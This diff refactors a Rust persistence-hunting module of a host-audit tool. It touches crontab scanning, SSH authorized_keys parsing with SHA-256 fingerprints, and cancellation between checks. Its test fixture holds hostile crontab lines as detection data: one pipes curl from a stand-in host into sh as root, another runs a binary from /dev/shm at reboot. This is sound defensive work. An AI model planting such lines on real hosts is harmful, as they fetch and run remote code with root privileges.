@@ -3,8 +3,9 @@
 //! fetch and run code.
 
 use crate::accounts::Accounts;
-use crate::util::{list_dir, pb, read_config};
-use ferret_core::{Control, ErrorRecord, Evidence, FileKind, Finding, HostRoot, Outcome, Severity};
+use crate::util::{line_error, list_dir, pb, read_config};
+use base64::Engine as _;
+use ferret_core::{Control, Evidence, FileKind, Finding, HostRoot, Outcome, Severity};
 use sha2::Digest;
 use std::os::unix::ffi::OsStrExt;
 use std::path::{Path, PathBuf};
@@ -15,6 +16,7 @@ use std::path::{Path, PathBuf};
 /// What a command line does that persistence hunters care about.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
 #[cfg_attr(feature = "serde", derive(serde::Serialize))]
+#[cfg_attr(feature = "serde", serde(rename_all = "kebab-case"))]
 #[non_exhaustive]
 pub enum Suspicion {
     /// Downloads and executes (curl/wget piped to a shell, `sh -c "$(curl ..)"`), or opens a
@@ -149,21 +151,34 @@ pub fn classify_command(cmd: &[u8]) -> Vec<Suspicion> {
 // ---------------------------------------------------------------------------------------------
 // Crontabs.
 
-/// One suspicious crontab entry.
+/// One suspicious crontab entry or script line.
 #[derive(Debug, Clone, PartialEq, Eq)]
+#[cfg_attr(feature = "serde", derive(serde::Serialize))]
 #[non_exhaustive]
 pub struct CronHit {
     /// 1-based line.
     pub line: u64,
     /// The command field.
+    #[cfg_attr(feature = "serde", serde(with = "ferret_core::escaped"))]
     pub command: Vec<u8>,
     /// What it does.
     pub what: Vec<Suspicion>,
 }
 
-/// Scans a crontab. `system` crontabs (`/etc/crontab`, `/etc/cron.d`) have a user field.
-/// Returns the suspicious entries and the malformed lines (line numbers).
-pub fn scan_crontab(data: &[u8], system: bool) -> (Vec<CronHit>, Vec<u64>) {
+/// The two crontab formats.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+#[non_exhaustive]
+pub enum CrontabKind {
+    /// `/etc/crontab` and `/etc/cron.d/*`: a user field before the command.
+    System,
+    /// A user's crontab (`/var/spool/cron/crontabs/*`): no user field.
+    User,
+}
+
+/// Scans a crontab of the given kind. Returns the suspicious entries and the malformed lines
+/// (line numbers).
+pub fn scan_crontab(data: &[u8], kind: CrontabKind) -> (Vec<CronHit>, Vec<u64>) {
+    let system = kind == CrontabKind::System;
     let mut hits = Vec::new();
     let mut bad = Vec::new();
     for (i, raw) in data.split(|&c| c == b'\n').enumerate() {
@@ -315,16 +330,21 @@ fn audit_cron(root: &HostRoot, out: &mut Outcome) {
                     }
                 }
             } else {
-                let (hits, bad) = scan_crontab(&buf, system);
+                let kind = if system {
+                    CrontabKind::System
+                } else {
+                    CrontabKind::User
+                };
+                let (hits, bad) = scan_crontab(&buf, kind);
                 for h in hits {
                     for s in &h.what {
                         out.findings.push(cron_finding(&f, &h, *s, false));
                     }
                 }
                 for l in bad {
-                    out.errors.push(ErrorRecord::new(
-                        Some(pb(&f)),
-                        Some(l),
+                    out.errors.push(line_error(
+                        pb(&f),
+                        l,
                         "malformed crontab line (cron ignores it)",
                     ));
                 }
@@ -369,6 +389,18 @@ fn audit_preload(root: &HostRoot, out: &mut Outcome) {
 // ---------------------------------------------------------------------------------------------
 // authorized_keys.
 
+/// One option of an authorized_keys line (`command="..."`, `from="..."`, `no-pty`).
+#[derive(Debug, Clone, PartialEq, Eq)]
+#[cfg_attr(feature = "serde", derive(serde::Serialize))]
+#[non_exhaustive]
+pub struct KeyOption {
+    /// The name, lower-cased (escaped if it is not plain ASCII).
+    pub name: String,
+    /// The value with its quotes removed; `None` for a flag such as `no-pty`.
+    #[cfg_attr(feature = "serde", serde(with = "ferret_core::escaped::opt"))]
+    pub value: Option<Vec<u8>>,
+}
+
 /// One key of an authorized_keys file. Key material is never kept: only its type, its SHA-256
 /// fingerprint and its comment.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -377,13 +409,15 @@ fn audit_preload(root: &HostRoot, out: &mut Outcome) {
 pub struct AuthorizedKey {
     /// 1-based line.
     pub line: u64,
-    /// Options (`command="..."`, `from="..."`, `no-pty`), names lower-cased, values unquoted.
-    pub options: Vec<(String, Option<Vec<u8>>)>,
-    /// Key type (`ssh-ed25519`).
+    /// The options before the key, in order.
+    pub options: Vec<KeyOption>,
+    /// Key type (`ssh-ed25519`; escaped if it is not plain ASCII).
     pub key_type: String,
-    /// `SHA256:...` fingerprint as `ssh-keygen -l` prints it (None when the blob is not base64).
+    /// `SHA256:...` fingerprint as `ssh-keygen -l` prints it; `None` when the blob is not
+    /// canonical base64 (bad characters or padding, non-zero trailing bits), which sshd refuses.
     pub fingerprint: Option<String>,
     /// Comment.
+    #[cfg_attr(feature = "serde", serde(with = "ferret_core::escaped"))]
     pub comment: Vec<u8>,
 }
 
@@ -392,8 +426,8 @@ impl AuthorizedKey {
     pub fn option(&self, name: &str) -> Option<Option<&[u8]>> {
         self.options
             .iter()
-            .find(|(n, _)| n == name)
-            .map(|(_, v)| v.as_deref())
+            .find(|o| o.name == name)
+            .map(|o| o.value.as_deref())
     }
 
     /// A printable description without key material: `type fingerprint comment`.
@@ -417,52 +451,24 @@ fn is_key_type(t: &[u8]) -> bool {
         || t.starts_with(b"webauthn-")
 }
 
-fn b64_decode(s: &[u8]) -> Option<Vec<u8>> {
-    let mut out = Vec::with_capacity(s.len() * 3 / 4);
-    let mut acc = 0u32;
-    let mut n = 0;
-    for &c in s {
-        let v = match c {
-            b'A'..=b'Z' => c - b'A',
-            b'a'..=b'z' => c - b'a' + 26,
-            b'0'..=b'9' => c - b'0' + 52,
-            b'+' => 62,
-            b'/' => 63,
-            b'=' => break,
-            _ => return None,
-        };
-        acc = (acc << 6) | u32::from(v);
-        n += 6;
-        if n >= 8 {
-            n -= 8;
-            out.push((acc >> n) as u8);
-            acc &= (1 << n) - 1;
-        }
+/// The SHA-256 fingerprint `ssh-keygen -l` prints for a key blob, when the blob is canonical
+/// base64 (standard alphabet, padding, zero trailing bits: what OpenSSH's decoder accepts).
+fn fingerprint(blob: &[u8]) -> Option<String> {
+    let key = base64::engine::general_purpose::STANDARD
+        .decode(blob)
+        .ok()?;
+    if key.is_empty() {
+        return None;
     }
-    Some(out)
+    let digest = sha2::Sha256::digest(&key);
+    Some(format!(
+        "SHA256:{}",
+        base64::engine::general_purpose::STANDARD_NO_PAD.encode(digest)
+    ))
 }
-
-fn b64_encode_nopad(b: &[u8]) -> String {
-    const T: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
-    let mut s = String::new();
-    for chunk in b.chunks(3) {
-        let v = chunk
-            .iter()
-            .enumerate()
-            .fold(0u32, |a, (i, &x)| a | (u32::from(x) << (16 - 8 * i)));
-        for i in 0..=chunk.len() {
-            let idx = ((v >> (18 - 6 * i)) & 63) as usize;
-            s.push(char::from(T.get(idx).copied().unwrap_or(b'A')));
-        }
-    }
-    s
-}
-
-/// Key options: lower-cased name and unquoted value.
-type KeyOptions = Vec<(String, Option<Vec<u8>>)>;
 
 /// Splits the options field off a line: returns (options, rest). Quotes may hold blanks.
-fn split_options(l: &[u8]) -> (KeyOptions, &[u8]) {
+fn split_options(l: &[u8]) -> (Vec<KeyOption>, &[u8]) {
     let mut opts = Vec::new();
     let mut i = 0;
     let mut quoted = false;
@@ -503,7 +509,10 @@ fn split_options(l: &[u8]) -> (KeyOptions, &[u8]) {
                     }
                     None => (opt, None),
                 };
-                opts.push((String::from_utf8_lossy(name).to_ascii_lowercase(), val));
+                opts.push(KeyOption {
+                    name: ferret_core::escape::escape(&name.to_ascii_lowercase()),
+                    value: val,
+                });
             }
             start = j + 1;
         }
@@ -539,14 +548,11 @@ pub fn parse_authorized_keys(data: &[u8]) -> Vec<Result<AuthorizedKey, u64>> {
             out.push(Err(line));
             continue;
         }
-        let fingerprint = b64_decode(blob)
-            .filter(|d| !d.is_empty())
-            .map(|d| format!("SHA256:{}", b64_encode_nopad(&sha2::Sha256::digest(&d))));
         out.push(Ok(AuthorizedKey {
             line,
             options,
-            key_type: String::from_utf8_lossy(kt).into_owned(),
-            fingerprint,
+            key_type: ferret_core::escape::escape(kt),
+            fingerprint: fingerprint(blob),
             comment: it.next().unwrap_or_default().trim_ascii().to_vec(),
         }));
     }
@@ -622,11 +628,8 @@ fn audit_authorized_keys(root: &HostRoot, accounts: &Accounts, out: &mut Outcome
                 let k = match k {
                     Ok(k) => k,
                     Err(line) => {
-                        out.errors.push(ErrorRecord::new(
-                            Some(f),
-                            Some(line),
-                            "unparsable authorized_keys line",
-                        ));
+                        out.errors
+                            .push(line_error(f, line, "unparsable authorized_keys line"));
                         continue;
                     }
                 };
@@ -978,25 +981,30 @@ fn audit_profiles(root: &HostRoot, accounts: &Accounts, out: &mut Outcome) {
     }
 }
 
-/// Runs every persistence check.
-pub fn audit(root: &HostRoot, control: &Control) -> Outcome {
+/// Runs every persistence check on `root`. Cancelling `control` stops it between the
+/// checks (preload, cron, authorized_keys, systemd, rc.local and profiles), with a "cancelled"
+/// error beside what was found.
+pub fn audit_root(root: &HostRoot, control: &Control) -> Outcome {
     let mut out = Outcome::new();
+    if crate::util::cancelled(control, &mut out) {
+        return out;
+    }
     let (accounts, errs) = Accounts::load(root);
     out.errors.extend(errs);
     audit_preload(root, &mut out);
-    if control.is_cancelled() {
+    if crate::util::cancelled(control, &mut out) {
         return out;
     }
     audit_cron(root, &mut out);
-    if control.is_cancelled() {
+    if crate::util::cancelled(control, &mut out) {
         return out;
     }
     audit_authorized_keys(root, &accounts, &mut out);
-    if control.is_cancelled() {
+    if crate::util::cancelled(control, &mut out) {
         return out;
     }
     audit_systemd(root, &accounts, &mut out);
-    if control.is_cancelled() {
+    if crate::util::cancelled(control, &mut out) {
         return out;
     }
     audit_rc_local(root, &mut out);
@@ -1033,7 +1041,10 @@ mod tests {
 
     #[test]
     fn crontab_fields() {
-        let (h, bad) = scan_crontab(b"SHELL=/bin/sh\n*/5 * * * * root curl -s http://e/x | sh\n@reboot root /dev/shm/x\n* * *\n", true);
+        let (h, bad) = scan_crontab(
+            b"SHELL=/bin/sh\n*/5 * * * * root curl -s http://e/x | sh\n@reboot root /dev/shm/x\n* * *\n",
+            CrontabKind::System,
+        );
         assert_eq!(h.len(), 2);
         assert_eq!(h[0].line, 2);
         assert_eq!(bad, vec![4]);
